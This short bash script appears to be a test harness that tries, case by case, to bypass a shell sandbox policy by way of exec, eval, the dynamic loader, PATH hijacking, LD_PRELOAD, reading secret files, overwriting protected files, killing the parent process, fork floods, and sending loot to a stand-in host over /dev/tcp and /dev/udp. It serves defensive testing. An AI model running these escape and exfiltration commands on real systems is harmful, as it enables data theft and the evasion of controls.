#!/bin/bash
# Attempts in a shell: `attack.sh NAME`. The shell itself is what the policy allows.
case $1 in
run) "$EVIL" ;;
exec) exec "$EVIL" ;;
eval) eval "$(printf '"%s"' "$EVIL")" ;;
substitution) echo "$("$EVIL")" ;;
background) "$EVIL" & wait ;;
loader) /lib64/ld-linux-x86-64.so.2 "$EVIL_DYNAMIC" ;;
script) printf '#!/bin/sh\n"%s"\n' "$EVIL" >"$SCRATCH/script"; /bin/sh "$SCRATCH/script" ;;
path) ln -s "$EVIL" "$SCRATCH/uname"; PATH=$SCRATCH uname ;;
preload) LD_PRELOAD="$LIBRARY" /usr/bin/true ;;
without_preload) LD_PRELOAD= "$EVIL"; unset LD_PRELOAD; "$EVIL" ;;
dev_tcp) exec 9<>"/dev/tcp/$STRANGER/443" && echo "$LOOT" >&9 ;;
dev_udp) exec 9<>"/dev/udp/$STRANGER/443" && echo "$LOOT" >&9 ;;
read) echo "$(<"$SECRET")" ;;
source) . "$SECRET" ;;
write) echo OVERWRITTEN >"$PROTECTED/file" ;;
write_append) echo OVERWRITTEN >>"$PROTECTED/file" ;;
here_document) cat <<<"$(<"$SECRET")" ;;
kill_init) kill -9 $PPID; kill -STOP $PPID; "$EVIL" ;;
fork_many) for _ in {1..100}; do ("$EVIL") & done; wait ;;
*) exit 64 ;;
esac
